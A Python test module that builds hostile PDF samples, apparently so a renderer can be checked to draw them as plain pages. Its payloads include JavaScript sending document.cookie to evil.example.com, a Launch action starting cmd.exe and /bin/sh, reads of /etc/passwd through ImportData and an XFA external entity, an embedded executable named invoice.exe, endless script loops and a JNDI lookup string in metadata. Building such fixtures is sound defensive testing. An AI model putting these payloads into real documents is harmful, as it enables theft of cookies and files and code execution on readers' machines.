"""PDFs that want a reader's program to do something. Drawn, they are a page like any other."""

from tests.letters.hostile.building import SAMPLE, page, stream

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(document.cookie\\);this.submitForm\\('https://evil.example.com/'\\))>>"
URI = b"<</S/URI/URI(https://evil.example.com/)>>"
ATTACHED = b"<</Type/Filespec/F(invoice.exe)/UF(invoice.exe)/EF<</F 6 0 R>>>>"


def acting(action: bytes) -> bytes:
    return page(catalog=b"/OpenAction" + action)


def note(subtype: bytes, entries: bytes, *more: bytes) -> bytes:
    return page(
        SAMPLE,
        b"<</Type/Annot/Subtype/%b/Rect[72 600 200 700]/F 4%b>>" % (subtype, entries),
        *more,
        entries=b"/Annots[5 0 R]",
    )


FILES = {
    "a script on opening": lambda: acting(SCRIPT),
    "a script without end on opening": lambda: acting(b"<</S/JavaScript/JS(while\\(true\\);)>>"),
    "a script by name": lambda: page(catalog=b"/Names<</JavaScript<</Names[(a)" + SCRIPT + b"]>>>>"),
    "a script on each page": lambda: page(entries=b"/AA<</O" + SCRIPT + b"/C" + SCRIPT + b">>"),
    "a script on closing": lambda: page(catalog=b"/AA<</WC" + SCRIPT + b"/WS" + SCRIPT + b"/DP" + SCRIPT + b">>"),
    "a script that calculates a field": lambda: page(SAMPLE, b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(1)/Rect[72 600 200 700]/AA<</C" + SCRIPT + b"/F" + SCRIPT + b"/K" + SCRIPT + b">>>>", entries=b"/Annots[5 0 R]", catalog=b"/AcroForm<</Fields[5 0 R]/CO[5 0 R]/NeedAppearances true>>"),
    "a program is started": lambda: acting(b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>/F(/bin/sh)>>"),
    "a page of the web is opened": lambda: acting(URI),
    "another file is opened": lambda: acting(b"<</S/GoToR/F(\\\\\\\\evil.example.com\\\\share\\\\a.pdf)/D[0/Fit]>>"),
    "an embedded file is opened": lambda: acting(b"<</S/GoToE/T<</R/C/N(invoice)>>/D[0/Fit]>>"),
    "a form is sent": lambda: acting(b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example.com/)>>/Flags 4>>"),
    "data are imported": lambda: acting(b"<</S/ImportData/F(/etc/passwd)>>"),
    "actions lead in a circle": lambda: page(SAMPLE, b"<</S/URI/URI(a)/Next 5 0 R>>", catalog=b"/OpenAction 5 0 R"),
    "an attached program": lambda: page(SAMPLE, ATTACHED, stream(b"MZ" + bytes(500), b"/Type/EmbeddedFile"), catalog=b"/Names<</EmbeddedFiles<</Names[(a) 5 0 R]>>>>/PageMode/UseAttachments/AF[5 0 R]"),
    "an attached program as a note": lambda: note(b"FileAttachment", b"/FS" + ATTACHED, stream(b"MZ" + bytes(500))),
    "a form of XFA": lambda: page(SAMPLE, stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>'), catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>/NeedsRendering true"),
    "a form of XFA with an entity from outside": lambda: page(SAMPLE, stream(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&x;</xdp:xdp>'), catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>"),
    "a film": lambda: note(b"RichMedia", b"/RichMediaContent<</Assets<</Names[(a)" + ATTACHED + b"]>>/Configurations[]>>/RichMediaSettings<</Activation<</Condition/PV>>>>", stream(b"FWS" + bytes(500))),
    "a sound": lambda: note(b"Sound", b"/Sound 6 0 R", stream(bytes(500), b"/Type/Sound/R 8000")),
    "a film by a rendition": lambda: note(b"Screen", b"/A<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D" + ATTACHED + b"/CT(video/mp4)>>>>/AN 5 0 R>>", stream(bytes(500))),
    "a model in three dimensions with a script": lambda: note(b"3D", b"/3DD 6 0 R", stream(bytes(500), b"/Type/3D/Subtype/U3D/OnInstantiate 7 0 R"), stream(b"while(1);")),
    "links over the whole page": lambda: note(b"Link", b"/A" + URI + b"/QuadPoints[0 0 595 0 0 842 595 842]"),
    "a picture from outside": lambda: page(b"q 400 0 0 400 72 72 cm /I Do Q " + SAMPLE, b"<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F(/etc/passwd)/FFilter/FlateDecode/Length 0>>stream\n\nendstream", resources=b"/XObject<</I 5 0 R>>"),
    "a page from outside": lambda: page(b"/X Do " + SAMPLE, stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(\\\\\\\\evil.example.com\\\\a.pdf)/Page 0>>"), resources=b"/XObject<</X 5 0 R>>"),
    "PostScript in a page": lambda: page(b"/X Do " + SAMPLE, stream(b"(/etc/passwd) (r) file", b"/Type/XObject/Subtype/PS"), resources=b"/XObject<</X 5 0 R>>"),
    "layers that scripts switch": lambda: acting(b"<</S/SetOCGState/State[/ON 1 0 R]/Next" + SCRIPT + b">>"),
    "a movie, a thread and a named action": lambda: acting(b"<</S/Named/N/Print/Next[<</S/Thread/D 0>><</S/Movie/T(a)>><</S/Hide/T(a)>><</S/Trans/Trans<</S/Fly>>>>]>>"),
    "a portfolio": lambda: page(SAMPLE, ATTACHED, stream(page(catalog=b"/OpenAction" + SCRIPT), b"/Type/EmbeddedFile"), catalog=b"/Collection<</View/T/D(a)>>/Names<</EmbeddedFiles<</Names[(a) 5 0 R]>>>>"),
    "instructions in its description": lambda: page(catalog=b"/Metadata 5 0 R", entries=b"").replace(b"/Root 1 0 R", b"/Root 1 0 R/Info<</Title(<script>alert\\(1\\)</script>)/Author(${jndi:ldap://evil.example.com})>>"),
}  # fmt: skip
